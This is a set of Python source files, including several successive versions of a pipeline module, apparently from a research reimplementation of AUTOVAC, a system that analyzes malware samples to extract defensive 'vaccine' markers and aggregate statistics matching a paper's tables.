        search_engine: Optional[SearchEngine] = None,
        aligner: Aligner = align_lcs,
        profile_budget: int = DEFAULT_BUDGET,
        clinic_programs: Sequence[Program] = (),
        validate_replay: bool = True,
        exclusiveness_enabled: bool = True,
        run_clinic: bool = False,
        explore_paths: bool = False,
    ) -> None:
        self.environment = environment if environment is not None else SystemEnvironment()
        self.exclusiveness = ExclusivenessAnalyzer(search=search_engine or SearchEngine())
        self.impact = ImpactAnalyzer(
            environment=self.environment, aligner=aligner, max_steps=profile_budget
        )
        self.profile_budget = profile_budget
        self.clinic_programs = list(clinic_programs)
        self.validate_replay = validate_replay
        self.exclusiveness_enabled = exclusiveness_enabled
        self.run_clinic = run_clinic
        #: Enforced execution (§VIII): flip resource-check outcomes to find
        #: candidates on dormant paths before Phase II.
        self.explore_paths = explore_paths

    # ------------------------------------------------------------------

    def analyze(self, program: Program) -> SampleAnalysis:
        analysis = SampleAnalysis(program=program)

        started = time.perf_counter()
        phase1 = select_candidates(
            program, environment=self.environment, max_steps=self.profile_budget
        )
        analysis.phase1 = phase1
        analysis.timings["phase1"] = time.perf_counter() - started

        if not phase1.has_vaccine_potential:
            analysis.filtered_reason = "no resource-dependent branch (Phase I filter)"
            return analysis

        candidates = [
            c for c in phase1.candidates if c.influences_control_flow or c.had_failure
        ]

        if self.explore_paths:
            started = time.perf_counter()
            from ..analysis.forced_execution import explore_resource_paths

            exploration = explore_resource_paths(
                program, environment=self.environment, max_steps=self.profile_budget
            )
            candidates.extend(exploration.discovered)
            analysis.timings["exploration"] = time.perf_counter() - started

        started = time.perf_counter()
        if self.exclusiveness_enabled:
            analysis.exclusiveness = self.exclusiveness.filter(candidates)
            candidates = [d.candidate for d in analysis.exclusiveness if d.exclusive]
        analysis.timings["exclusiveness"] = time.perf_counter() - started

        started = time.perf_counter()
        for candidate in candidates:
            analysis.impacts.extend(
                self.impact.analyze(program, candidate, phase1.trace)
            )
        analysis.timings["impact"] = time.perf_counter() - started

        started = time.perf_counter()
        built: Dict[tuple, Vaccine] = {}
        ordered = sorted(
            (o for o in analysis.impacts if o.is_effective),
            key=lambda o: o.mechanism is not Mechanism.SIMULATE_PRESENCE,
        )
        for outcome in ordered:
            vaccine = self._build_vaccine(program, phase1, outcome, analysis)
            if vaccine is None:
                continue
            # Both mutation directions of a create-checked resource deploy as
            # the same artifact (a locked marker); keep one per effect.
            key = (vaccine.resource_type, vaccine.identifier, vaccine.immunization)
            if key not in built:
                built[key] = vaccine
        analysis.vaccines = list(built.values())
        analysis.timings["determinism"] = time.perf_counter() - started

        if self.run_clinic and analysis.vaccines and self.clinic_programs:
            started = time.perf_counter()
            analysis.clinic = clinic_test(
                analysis.vaccines, self.clinic_programs, environment=self.environment
            )
            analysis.vaccines = list(analysis.clinic.passed)
            analysis.timings["clinic"] = time.perf_counter() - started

        return analysis

    def analyze_population(self, programs: Iterable[Program]) -> PopulationResult:
        result = PopulationResult()
        for program in programs:
            result.analyses.append(self.analyze(program))
        return result

    # ------------------------------------------------------------------

    def _build_vaccine(
        self,
        program: Program,
        phase1: CandidateReport,
        outcome: ImpactOutcome,
        analysis: SampleAnalysis,
    ) -> Optional[Vaccine]:
        candidate = outcome.candidate
        event = self._representative_event(phase1, candidate)
        if event is None:
            return None

        det_key = f"{candidate.resource_type.value}:{candidate.identifier}"
        det = analysis.determinism.get(det_key)
        if det is None:
            det = analyze_determinism(
                program, phase1.run, event, validate_replay=self.validate_replay
            )
            analysis.determinism[det_key] = det

        if det.kind is IdentifierKind.NON_DETERMINISTIC:
            return None

        return Vaccine(
            malware=program.name,
            resource_type=candidate.resource_type,
            identifier=candidate.identifier,
            identifier_kind=det.kind,
            mechanism=outcome.mechanism,
            immunization=outcome.immunization,
            operations=frozenset(candidate.operations),
            pattern=det.pattern,
            slice=det.slice,
            apis=tuple(sorted(candidate.apis)),
            notes=det.notes,
        )

    @staticmethod
    def _representative_event(phase1: CandidateReport, candidate: CandidateResource):
        """Pick the name-carrying event for determinism analysis."""
        ids = set(candidate.event_ids)
        best = None
        for event in phase1.trace.api_calls:
            if event.event_id not in ids:
                continue
            if event.identifier_taints is not None:
                return event
            best = best or event
        return best
