"""The end-to-end AUTOVAC pipeline (paper Figure 1).

``AutoVac.analyze(program)`` runs:

1. **Phase I** candidate selection (profiling + taint),
2. **Phase II** exclusiveness → impact (both mutation mechanisms) →
   determinism (backward slicing) → optional clinic test,
3. emits :class:`~repro.core.vaccine.Vaccine` objects ready for Phase III
   delivery.

``AutoVac.analyze_population`` maps the pipeline over a corpus and aggregates
the statistics the paper reports (Tables IV/V, Figure 3).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence

from .. import obs
from ..analysis.alignment import Aligner, align_lcs
from ..obs import Span
from ..search.engine import SearchEngine
from ..vm.program import Program
from ..winenv.environment import SystemEnvironment
from .candidate import CandidateReport, CandidateResource, select_candidates
from .clinic import ClinicReport, clinic_test
from .determinism import DeterminismResult, analyze_determinism
from .exclusiveness import ExclusivenessAnalyzer, ExclusivenessDecision
from .impact import ImpactAnalyzer, ImpactOutcome
from .runner import DEFAULT_BUDGET
from .vaccine import IdentifierKind, Immunization, Mechanism, Vaccine

#: Every Phase I/II stage, in pipeline order.  ``analyze`` emits exactly one
#: span per stage per sample (skipped stages carry ``skipped=True``), except
#: ``exploration`` which only exists when enforced execution is on.
STAGES = ("phase1", "exploration", "exclusiveness", "impact", "determinism", "clinic")

_log = obs.get_logger("pipeline")


@dataclass
class SampleAnalysis:
    """Everything the pipeline produced for one sample."""

    program: Program
    phase1: Optional[CandidateReport] = None
    exclusiveness: List[ExclusivenessDecision] = field(default_factory=list)
    impacts: List[ImpactOutcome] = field(default_factory=list)
    determinism: Dict[str, DeterminismResult] = field(default_factory=dict)
    vaccines: List[Vaccine] = field(default_factory=list)
    clinic: Optional[ClinicReport] = None
    filtered_reason: Optional[str] = None
    #: Root span of this sample's ``pipeline.analyze`` (None when tracing is
    #: disabled); stage spans are its direct children.
    span: Optional[Span] = None

    @property
    def has_vaccines(self) -> bool:
        return bool(self.vaccines)

    @property
    def timings(self) -> Dict[str, float]:
        """Per-stage wall seconds, derived from the span tree.

        Backward-compatible view of the old hand-maintained dict: only
        stages that actually executed appear (skipped spans are omitted).
        """
        if self.span is None:
            return {}
        return {
            child.name: child.total_seconds()
            for child in self.span.children
            if child.name in STAGES and not child.attrs.get("skipped")
        }


@dataclass
class PopulationResult:
    """Aggregate over a corpus run."""

    analyses: List[SampleAnalysis] = field(default_factory=list)

    @property
    def vaccines(self) -> List[Vaccine]:
        return [v for a in self.analyses for v in a.vaccines]

    @property
    def samples_with_vaccines(self) -> int:
        return sum(1 for a in self.analyses if a.has_vaccines)

    def count_by_resource_and_immunization(self) -> Dict[str, Dict[str, int]]:
        """Paper Table IV: rows = resource type, columns = Full/Type I-IV."""
        table: Dict[str, Dict[str, int]] = {}
        for vaccine in self.vaccines:
            row = table.setdefault(vaccine.resource_type.value, {})
            col = vaccine.immunization.value
            row[col] = row.get(col, 0) + 1
        return table

    def count_by_identifier_kind(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for vaccine in self.vaccines:
            counts[vaccine.identifier_kind.value] = (
                counts.get(vaccine.identifier_kind.value, 0) + 1
            )
        return counts

    def count_by_delivery(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for vaccine in self.vaccines:
            counts[vaccine.delivery.value] = counts.get(vaccine.delivery.value, 0) + 1
        return counts

    def resource_operation_stats(self) -> Dict[str, Dict[str, int]]:
        """Figure 3: resource-type x operation access counts over the
        whole population's profiling runs."""
        stats: Dict[str, Dict[str, int]] = {}
        for analysis in self.analyses:
            if analysis.phase1 is None:
                continue
            for rtype, per_op in analysis.phase1.trace.count_by_resource_operation().items():
                row = stats.setdefault(rtype.value, {})
                for op, count in per_op.items():
                    row[op.value] = row.get(op.value, 0) + count
        return stats

    def occurrence_stats(self) -> Dict[str, int]:
        """Phase-I §VI-B numbers: total resource-API occurrences and how
        many influenced control flow (paper: 460,323 / 80.3%)."""
        total = sum(a.phase1.total_occurrences for a in self.analyses if a.phase1)
        influential = sum(
            a.phase1.influential_occurrences for a in self.analyses if a.phase1
        )
        return {"total": total, "influential": influential}

    def count_by_category_and_resource(self) -> Dict[str, Dict[str, int]]:
        """Table V upper half: vaccine resource mix per malware category."""
        table: Dict[str, Dict[str, int]] = {}
        for analysis in self.analyses:
            category = str(analysis.program.metadata.get("category", "unknown"))
            for vaccine in analysis.vaccines:
                row = table.setdefault(category, {})
                key = vaccine.resource_type.value
                row[key] = row.get(key, 0) + 1
        return table

    def count_by_category_and_delivery(self) -> Dict[str, Dict[str, int]]:
        """Table V lower half: delivery mix per malware category."""
        table: Dict[str, Dict[str, int]] = {}
        for analysis in self.analyses:
            category = str(analysis.program.metadata.get("category", "unknown"))
            for vaccine in analysis.vaccines:
                row = table.setdefault(category, {})
                key = vaccine.delivery.value
                row[key] = row.get(key, 0) + 1
        return table


class AutoVac:
    """The AUTOVAC analysis system.

    Parameters mirror the paper's setup: a pristine analysis machine, the
    search engine for exclusiveness, the trace aligner, and the profiling
    budget (1-minute analogue).  ``exclusiveness_enabled`` and
    ``run_clinic`` exist for the ablation benches.
    """

    def __init__(
        self,
        environment: Optional[SystemEnvironment] = None,
        search_engine: Optional[SearchEngine] = None,
        aligner: Aligner = align_lcs,
        profile_budget: int = DEFAULT_BUDGET,
        clinic_programs: Sequence[Program] = (),
        validate_replay: bool = True,
        exclusiveness_enabled: bool = True,
        run_clinic: bool = False,
        explore_paths: bool = False,
    ) -> None:
        self.environment = environment if environment is not None else SystemEnvironment()
        self.exclusiveness = ExclusivenessAnalyzer(search=search_engine or SearchEngine())
        self.impact = ImpactAnalyzer(
            environment=self.environment, aligner=aligner, max_steps=profile_budget
        )
        self.profile_budget = profile_budget
        self.clinic_programs = list(clinic_programs)
        self.validate_replay = validate_replay
        self.exclusiveness_enabled = exclusiveness_enabled
        self.run_clinic = run_clinic
        #: Enforced execution (§VIII): flip resource-check outcomes to find
        #: candidates on dormant paths before Phase II.
        self.explore_paths = explore_paths

    # ------------------------------------------------------------------

    def analyze(self, program: Program) -> SampleAnalysis:
        with obs.trace.span("pipeline.analyze", sample=program.name) as root:
            analysis = SampleAnalysis(program=program)
            if isinstance(root, Span):
                analysis.span = root
            self._analyze(program, analysis)
            root.set(
                vaccines=len(analysis.vaccines),
                filtered=analysis.filtered_reason is not None,
            )
        obs.metrics.counter("pipeline.samples").inc()
        if analysis.filtered_reason:
            obs.metrics.counter("pipeline.samples_filtered").inc()
        obs.metrics.counter("pipeline.vaccines").inc(len(analysis.vaccines))
        obs.metrics.histogram("pipeline.analyze_seconds").observe(root.total_seconds())
        _log.info(
            "sample analyzed",
            sample=program.name,
            vaccines=len(analysis.vaccines),
            filtered=analysis.filtered_reason or "",
        )
        return analysis

    def _analyze(self, program: Program, analysis: SampleAnalysis) -> None:
        span = obs.trace.span  # each stage emits exactly one child span

        with span("phase1"):
            phase1 = select_candidates(
                program, environment=self.environment, max_steps=self.profile_budget
            )
            analysis.phase1 = phase1

        if not phase1.has_vaccine_potential:
            analysis.filtered_reason = "no resource-dependent branch (Phase I filter)"
            for stage in ("exclusiveness", "impact", "determinism", "clinic"):
                with span(stage) as s:
                    s.set(skipped=True)
            return

        candidates = [
            c for c in phase1.candidates if c.influences_control_flow or c.had_failure
        ]

        if self.explore_paths:
            with span("exploration") as s:
                from ..analysis.forced_execution import explore_resource_paths

                exploration = explore_resource_paths(
                    program, environment=self.environment, max_steps=self.profile_budget
                )
                candidates.extend(exploration.discovered)
                s.set(discovered=len(exploration.discovered))

        with span("exclusiveness") as s:
            if self.exclusiveness_enabled:
                analysis.exclusiveness = self.exclusiveness.filter(candidates)
                candidates = [d.candidate for d in analysis.exclusiveness if d.exclusive]
            s.set(kept=len(candidates))

        with span("impact") as s:
            for candidate in candidates:
                analysis.impacts.extend(
                    self.impact.analyze(program, candidate, phase1.trace)
                )
            s.set(outcomes=len(analysis.impacts))

        with span("determinism"):
            built: Dict[tuple, Vaccine] = {}
            ordered = sorted(
                (o for o in analysis.impacts if o.is_effective),
                key=lambda o: o.mechanism is not Mechanism.SIMULATE_PRESENCE,
            )
            for outcome in ordered:
                vaccine = self._build_vaccine(program, phase1, outcome, analysis)
                if vaccine is None:
                    continue
                # Both mutation directions of a create-checked resource deploy as
                # the same artifact (a locked marker); keep one per effect.
                key = (vaccine.resource_type, vaccine.identifier, vaccine.immunization)
                if key not in built:
                    built[key] = vaccine
            analysis.vaccines = list(built.values())

        with span("clinic") as s:
            if self.run_clinic and analysis.vaccines and self.clinic_programs:
                analysis.clinic = clinic_test(
                    analysis.vaccines, self.clinic_programs, environment=self.environment
                )
                analysis.vaccines = list(analysis.clinic.passed)
            else:
                s.set(skipped=True)

    def analyze_population(self, programs: Iterable[Program]) -> PopulationResult:
        result = PopulationResult()
        for program in programs:
            result.analyses.append(self.analyze(program))
            obs.metrics.gauge("pipeline.population_analyzed").set(len(result.analyses))
        return result

    # ------------------------------------------------------------------

    def _build_vaccine(
        self,
        program: Program,
        phase1: CandidateReport,
        outcome: ImpactOutcome,
        analysis: SampleAnalysis,
    ) -> Optional[Vaccine]:
        candidate = outcome.candidate
        event = self._representative_event(phase1, candidate)
        if event is None:
            return None

        det_key = f"{candidate.resource_type.value}:{candidate.identifier}"
        det = analysis.determinism.get(det_key)
        if det is None:
            det = analyze_determinism(
                program, phase1.run, event, validate_replay=self.validate_replay
            )
            analysis.determinism[det_key] = det

        if det.kind is IdentifierKind.NON_DETERMINISTIC:
            return None

        return Vaccine(
            malware=program.name,
            resource_type=candidate.resource_type,
            identifier=candidate.identifier,
            identifier_kind=det.kind,
            mechanism=outcome.mechanism,
            immunization=outcome.immunization,
            operations=frozenset(candidate.operations),
            pattern=det.pattern,
            slice=det.slice,
            apis=tuple(sorted(candidate.apis)),
            notes=det.notes,
        )

    @staticmethod
    def _representative_event(phase1: CandidateReport, candidate: CandidateResource):
        """Pick the name-carrying event for determinism analysis."""
        ids = set(candidate.event_ids)
        best = None
        for event in phase1.trace.api_calls:
            if event.event_id not in ids:
                continue
            if event.identifier_taints is not None:
                return event
            best = best or event
        return best
