"""The end-to-end AUTOVAC pipeline (paper Figure 1).

``AutoVac.analyze(program)`` runs:

1. **Phase I** candidate selection (profiling + taint),
2. **Phase II** exclusiveness → impact (both mutation mechanisms) →
   determinism (backward slicing) → optional clinic test,
3. emits :class:`~repro.core.vaccine.Vaccine` objects ready for Phase III
   delivery.

``AutoVac.analyze_population`` maps the pipeline over a corpus and aggregates
the statistics the paper reports (Tables IV/V, Figure 3).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence, Tuple

from .. import obs
from ..analysis.alignment import Aligner, align_myers
from ..obs import Journal, Span
from ..search.engine import SearchEngine
from ..vm import superblock as vm_superblock
from ..vm.program import Program
from ..winenv.environment import SystemEnvironment
from .candidate import CandidateReport, CandidateResource
from .clinic import ClinicReport
from .determinism import DeterminismResult, analyze_determinism
from .exclusiveness import ExclusivenessAnalyzer, ExclusivenessDecision
from .impact import ImpactAnalyzer, ImpactOutcome
from .policy import TemporalApiPolicy
from .runner import DEFAULT_BUDGET
from .stages import AnalysisContext, Stage, default_stages, run_stages
from .vaccine import IdentifierKind, Vaccine

#: Every Phase I/II stage, in pipeline order.  ``analyze`` emits exactly one
#: span per stage per sample (skipped stages carry ``skipped=True``), except
#: ``exploration`` which only exists when enforced execution is on.
STAGES = (
    "phase1",
    "exploration",
    "exclusiveness",
    "impact",
    "determinism",
    "policy",
    "clinic",
)

_log = obs.get_logger("pipeline")


@dataclass
class SampleAnalysis:
    """Everything the pipeline produced for one sample."""

    program: Program
    phase1: Optional[CandidateReport] = None
    exclusiveness: List[ExclusivenessDecision] = field(default_factory=list)
    impacts: List[ImpactOutcome] = field(default_factory=list)
    determinism: Dict[str, DeterminismResult] = field(default_factory=dict)
    vaccines: List[Vaccine] = field(default_factory=list)
    clinic: Optional[ClinicReport] = None
    #: Temporal API policy (second deliverable); ``None`` when no effective
    #: impact gave the synthesizer a boundary.
    policy: Optional[TemporalApiPolicy] = None
    filtered_reason: Optional[str] = None
    #: Root span of this sample's ``pipeline.analyze`` (None when tracing is
    #: disabled); stage spans are its direct children.
    span: Optional[Span] = None
    #: Flight-recorder journal for this sample (None when the recorder is
    #: disabled): the provenance DAG ``repro explain`` walks.
    journal: Optional[Journal] = None
    #: Hot-path profile delta for this sample (``{path: [count, seconds]}``;
    #: None when ``obs.prof`` is disabled) — merged across workers by the
    #: executor and rendered by ``repro profile`` / the report's hot-paths
    #: table.
    profile: Optional[Dict[str, List]] = None

    @property
    def has_vaccines(self) -> bool:
        return bool(self.vaccines)

    @property
    def timings(self) -> Dict[str, float]:
        """Per-stage wall seconds, derived from the span tree.

        Backward-compatible view of the old hand-maintained dict: only
        stages that actually executed appear (skipped spans are omitted).
        """
        if self.span is None:
            return {}
        return {
            child.name: child.total_seconds()
            for child in self.span.children
            if child.name in STAGES and not child.attrs.get("skipped")
        }


@dataclass
class SampleFailure:
    """A sample the executor gave up on (quarantined after its retry
    budget): what failed, how, and how many attempts it consumed.

    Kinds: ``crash`` (the analysis raised), ``timeout`` (a per-sample
    wall-clock deadline fired, or an injected hang surfaced), ``pool``
    (the worker process died hard — OOM-kill analogue).
    """

    sample: str
    index: int
    kind: str
    error_type: str
    message: str = ""
    traceback: str = ""
    attempts: int = 1

    def to_dict(self) -> dict:
        return {
            "sample": self.sample,
            "index": self.index,
            "kind": self.kind,
            "error_type": self.error_type,
            "message": self.message,
            "traceback": self.traceback,
            "attempts": self.attempts,
        }

    @staticmethod
    def from_dict(data: dict) -> "SampleFailure":
        return SampleFailure(
            sample=str(data.get("sample", "")),
            index=int(data.get("index", -1)),
            kind=str(data.get("kind", "crash")),
            error_type=str(data.get("error_type", "")),
            message=str(data.get("message", "")),
            traceback=str(data.get("traceback", "")),
            attempts=int(data.get("attempts", 1)),
        )

    def describe(self) -> str:
        return (
            f"{self.sample}: {self.kind} ({self.error_type}"
            f"{': ' + self.message if self.message else ''}) "
            f"after {self.attempts} attempt(s)"
        )


@dataclass
class PopulationResult:
    """Aggregate over a corpus run.

    ``analyses`` holds the healthy samples in input order; ``failures``
    holds the quarantined ones (also input order).  Every stat helper runs
    over the healthy set only, so a survey with failures reports the same
    numbers a fault-free survey of the surviving samples would.
    """

    analyses: List[SampleAnalysis] = field(default_factory=list)
    failures: List[SampleFailure] = field(default_factory=list)

    def succeeded(self) -> List[SampleAnalysis]:
        """The healthy analyses, in input order."""
        return list(self.analyses)

    def failed(self) -> List[SampleFailure]:
        """The quarantined samples, in input order."""
        return list(self.failures)

    @property
    def vaccines(self) -> List[Vaccine]:
        return [v for a in self.analyses for v in a.vaccines]

    @property
    def samples_with_vaccines(self) -> int:
        return sum(1 for a in self.analyses if a.has_vaccines)

    @property
    def policies(self) -> List[TemporalApiPolicy]:
        return [a.policy for a in self.analyses if a.policy is not None]

    def count_by_resource_and_immunization(self) -> Dict[str, Dict[str, int]]:
        """Paper Table IV: rows = resource type, columns = Full/Type I-IV."""
        table: Dict[str, Dict[str, int]] = {}
        for vaccine in self.vaccines:
            row = table.setdefault(vaccine.resource_type.value, {})
            col = vaccine.immunization.value
            row[col] = row.get(col, 0) + 1
        return table

    def count_by_identifier_kind(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for vaccine in self.vaccines:
            counts[vaccine.identifier_kind.value] = (
                counts.get(vaccine.identifier_kind.value, 0) + 1
            )
        return counts

    def count_by_delivery(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for vaccine in self.vaccines:
            counts[vaccine.delivery.value] = counts.get(vaccine.delivery.value, 0) + 1
        return counts

    def resource_operation_stats(self) -> Dict[str, Dict[str, int]]:
        """Figure 3: resource-type x operation access counts over the
        whole population's profiling runs."""
        stats: Dict[str, Dict[str, int]] = {}
        for analysis in self.analyses:
            if analysis.phase1 is None:
                continue
            for rtype, per_op in analysis.phase1.trace.count_by_resource_operation().items():
                row = stats.setdefault(rtype.value, {})
                for op, count in per_op.items():
                    row[op.value] = row.get(op.value, 0) + count
        return stats

    def occurrence_stats(self) -> Dict[str, int]:
        """Phase-I §VI-B numbers: total resource-API occurrences and how
        many influenced control flow (paper: 460,323 / 80.3%)."""
        total = sum(a.phase1.total_occurrences for a in self.analyses if a.phase1)
        influential = sum(
            a.phase1.influential_occurrences for a in self.analyses if a.phase1
        )
        return {"total": total, "influential": influential}

    def count_by_category_and_resource(self) -> Dict[str, Dict[str, int]]:
        """Table V upper half: vaccine resource mix per malware category."""
        table: Dict[str, Dict[str, int]] = {}
        for analysis in self.analyses:
            category = str(analysis.program.metadata.get("category", "unknown"))
            for vaccine in analysis.vaccines:
                row = table.setdefault(category, {})
                key = vaccine.resource_type.value
                row[key] = row.get(key, 0) + 1
        return table

    def count_by_category_and_delivery(self) -> Dict[str, Dict[str, int]]:
        """Table V lower half: delivery mix per malware category."""
        table: Dict[str, Dict[str, int]] = {}
        for analysis in self.analyses:
            category = str(analysis.program.metadata.get("category", "unknown"))
            for vaccine in analysis.vaccines:
                row = table.setdefault(category, {})
                key = vaccine.delivery.value
                row[key] = row.get(key, 0) + 1
        return table

    def merge(self, *others: "PopulationResult") -> "PopulationResult":
        """Combine shard results (sample order: self, then each shard).

        Every stat helper is a sum over per-sample contributions, so
        merge-then-count equals count-then-sum — the property the shard
        tests pin down.  Failure lists concatenate in the same order.
        """
        merged = PopulationResult(
            analyses=list(self.analyses), failures=list(self.failures)
        )
        for other in others:
            merged.analyses.extend(other.analyses)
            merged.failures.extend(other.failures)
        return merged


class AutoVac:
    """The AUTOVAC analysis system.

    Parameters mirror the paper's setup: a pristine analysis machine, the
    search engine for exclusiveness, the trace aligner, and the profiling
    budget (1-minute analogue).  ``exclusiveness_enabled`` and
    ``run_clinic`` exist for the ablation benches.

    ``stages`` makes the pipeline order explicit and reorderable: pass a
    sequence of :class:`~repro.core.stages.Stage` objects to replace the
    default Figure-1 order (the boolean flags above remain as shims that
    parameterize :func:`~repro.core.stages.default_stages`).
    """

    def __init__(
        self,
        environment: Optional[SystemEnvironment] = None,
        search_engine: Optional[SearchEngine] = None,
        aligner: Aligner = align_myers,
        profile_budget: int = DEFAULT_BUDGET,
        clinic_programs: Sequence[Program] = (),
        validate_replay: bool = True,
        exclusiveness_enabled: bool = True,
        run_clinic: bool = False,
        explore_paths: bool = False,
        stages: Optional[Sequence[Stage]] = None,
        snapshot_impact: bool = True,
        superblock_vm: Optional[bool] = None,
    ) -> None:
        self.environment = environment if environment is not None else SystemEnvironment()
        self.exclusiveness = ExclusivenessAnalyzer(search=search_engine or SearchEngine())
        self.impact = ImpactAnalyzer(
            environment=self.environment,
            aligner=aligner,
            max_steps=profile_budget,
            snapshot_resume=snapshot_impact,
        )
        self.profile_budget = profile_budget
        self.clinic_programs = list(clinic_programs)
        self.validate_replay = validate_replay
        self.exclusiveness_enabled = exclusiveness_enabled
        self.run_clinic = run_clinic
        #: Superblock tier for every CPU this pipeline runs (fresh runs and
        #: snapshot resumes alike — ``analyze`` scopes the override).
        #: ``None`` inherits the process default (``REPRO_SUPERBLOCKS``).
        self.superblock_vm = (
            vm_superblock.default_enabled() if superblock_vm is None else superblock_vm
        )
        #: Enforced execution (§VIII): flip resource-check outcomes to find
        #: candidates on dormant paths before Phase II.
        self.explore_paths = explore_paths
        self.stages: Tuple[Stage, ...] = (
            tuple(stages)
            if stages is not None
            else default_stages(exclusiveness_enabled=exclusiveness_enabled)
        )

    # ------------------------------------------------------------------

    def analyze(self, program: Program) -> SampleAnalysis:
        obs.stream.emit("sample.started", sample=program.name)
        journal_token = obs.flight.begin_sample(program.name)
        prof_mark = obs.prof.mark() if obs.prof.enabled else None
        with obs.trace.span("pipeline.analyze", sample=program.name) as root:
            analysis = SampleAnalysis(program=program)
            if isinstance(root, Span):
                analysis.span = root
            with vm_superblock.overridden(self.superblock_vm):
                self._analyze(program, analysis)
            root.set(
                vaccines=len(analysis.vaccines),
                filtered=analysis.filtered_reason is not None,
            )
        analysis.journal = obs.flight.end_sample(journal_token)
        if prof_mark is not None:
            analysis.profile = obs.prof.since(prof_mark)
        obs.metrics.counter("pipeline.samples").inc()
        if analysis.filtered_reason:
            obs.metrics.counter("pipeline.samples_filtered").inc()
        obs.metrics.counter("pipeline.vaccines").inc(len(analysis.vaccines))
        obs.metrics.histogram("pipeline.analyze_seconds").observe(root.total_seconds())
        _log.info(
            "sample analyzed",
            sample=program.name,
            vaccines=len(analysis.vaccines),
            filtered=analysis.filtered_reason or "",
        )
        return analysis

    def _analyze(self, program: Program, analysis: SampleAnalysis) -> None:
        ctx = AnalysisContext(program=program, analysis=analysis, pipeline=self)
        run_stages(self.stages, ctx)

    def analyze_population(
        self,
        programs: Iterable[Program],
        jobs: int = 1,
        cache: Optional[object] = None,
    ) -> PopulationResult:
        """Analyze a corpus; ``jobs>1`` fans out to worker processes and
        ``cache`` (a directory path) skips samples whose result is already
        on disk.  See :func:`repro.core.executor.analyze_population`."""
        from .executor import analyze_population

        return analyze_population(programs, jobs=jobs, cache=cache, autovac=self)

    # ------------------------------------------------------------------

    def _build_vaccine(
        self,
        program: Program,
        phase1: CandidateReport,
        outcome: ImpactOutcome,
        analysis: SampleAnalysis,
    ) -> Optional[Vaccine]:
        candidate = outcome.candidate
        event = self._representative_event(phase1, candidate)
        if event is None:
            return None

        det_key = f"{candidate.resource_type.value}:{candidate.identifier}"
        det = analysis.determinism.get(det_key)
        if det is None:
            det = analyze_determinism(
                program, phase1.run, event, validate_replay=self.validate_replay
            )
            analysis.determinism[det_key] = det

        flight = obs.flight
        if det.kind is IdentifierKind.NON_DETERMINISTIC:
            if flight.enabled:
                flight.record(
                    "vaccine.rejected",
                    causes=(outcome.flight_id, det.flight_id),
                    resource=candidate.resource_type.value,
                    identifier=candidate.identifier,
                    reason=det.notes or "non-deterministic identifier",
                )
            return None

        vaccine = Vaccine(
            malware=program.name,
            resource_type=candidate.resource_type,
            identifier=candidate.identifier,
            identifier_kind=det.kind,
            mechanism=outcome.mechanism,
            immunization=outcome.immunization,
            operations=frozenset(candidate.operations),
            pattern=det.pattern,
            slice=det.slice,
            apis=tuple(sorted(candidate.apis)),
            notes=det.notes,
        )
        if flight.enabled:
            flight.record(
                "vaccine",
                causes=(
                    outcome.flight_id,
                    det.flight_id,
                    flight.recall(
                        ("exclusive", candidate.resource_type.value, candidate.identifier)
                    ),
                ),
                resource=candidate.resource_type.value,
                identifier=candidate.identifier,
                immunization=vaccine.immunization.value,
                mechanism=vaccine.mechanism.value,
                identifier_kind=det.kind.value,
                pattern=det.pattern,
            )
        return vaccine

    @staticmethod
    def _representative_event(phase1: CandidateReport, candidate: CandidateResource):
        """Pick the name-carrying event for determinism analysis."""
        ids = set(candidate.event_ids)
        best = None
        for event in phase1.trace.api_calls:
            if event.event_id not in ids:
                continue
            if event.identifier_taints is not None:
                return event
            best = best or event
        return best
