"""AUTOVAC core: the three-phase vaccine extraction pipeline."""

from .bdr import BdrResult, EFFECT_BUDGET, measure_bdr
from .candidate import CandidateReport, CandidateResource, select_candidates
from .clinic import ClinicIncident, ClinicReport, clinic_test
from .determinism import DeterminismResult, analyze_determinism, build_pattern
from .exclusiveness import ExclusivenessAnalyzer, ExclusivenessDecision
from .executor import PipelineConfig, ResultCache, analyze_population
from .faults import FaultPlan, FaultPlanError, FaultSpec
from .impact import ImpactAnalyzer, ImpactOutcome, ResourceMutation, classify_deltas
from .pipeline import AutoVac, PopulationResult, SampleAnalysis, SampleFailure
from .policy import (
    PolicyRule,
    PolicySubtraction,
    PolicyValidation,
    TemporalApiPolicy,
    synthesize_policy,
    validate_policy,
)
from .report import render_failure_summary, render_report, render_run_manifest
from .stages import (
    AnalysisContext,
    ClinicStage,
    DeterminismStage,
    ExclusivenessStage,
    ExplorationStage,
    ImpactStage,
    Phase1Stage,
    PolicyStage,
    Stage,
    default_stages,
)
from .runner import DEFAULT_BUDGET, RunResult, run_sample
from .selection import SelectionResult, rank, score, select_minimal, select_with_backups
from .verification import VerificationReport, VerificationResult, verify_all, verify_vaccine
from .vaccine import (
    DeliveryKind,
    IdentifierKind,
    Immunization,
    Mechanism,
    Vaccine,
    normalize_identifier,
)

__all__ = [
    "AnalysisContext",
    "AutoVac",
    "BdrResult",
    "CandidateReport",
    "CandidateResource",
    "ClinicIncident",
    "ClinicReport",
    "ClinicStage",
    "DEFAULT_BUDGET",
    "DeliveryKind",
    "DeterminismResult",
    "DeterminismStage",
    "EFFECT_BUDGET",
    "ExclusivenessAnalyzer",
    "ExclusivenessDecision",
    "ExclusivenessStage",
    "ExplorationStage",
    "FaultPlan",
    "FaultPlanError",
    "FaultSpec",
    "IdentifierKind",
    "ImpactAnalyzer",
    "ImpactOutcome",
    "ImpactStage",
    "Immunization",
    "Mechanism",
    "Phase1Stage",
    "PolicyRule",
    "PolicyStage",
    "PolicySubtraction",
    "PolicyValidation",
    "PipelineConfig",
    "PopulationResult",
    "ResourceMutation",
    "ResultCache",
    "RunResult",
    "SelectionResult",
    "SampleAnalysis",
    "SampleFailure",
    "Stage",
    "TemporalApiPolicy",
    "Vaccine",
    "VerificationReport",
    "VerificationResult",
    "analyze_determinism",
    "analyze_population",
    "build_pattern",
    "classify_deltas",
    "clinic_test",
    "default_stages",
    "measure_bdr",
    "normalize_identifier",
    "rank",
    "score",
    "select_minimal",
    "select_with_backups",
    "run_sample",
    "select_candidates",
    "synthesize_policy",
    "render_failure_summary",
    "render_report",
    "render_run_manifest",
    "validate_policy",
    "verify_all",
    "verify_vaccine",
]
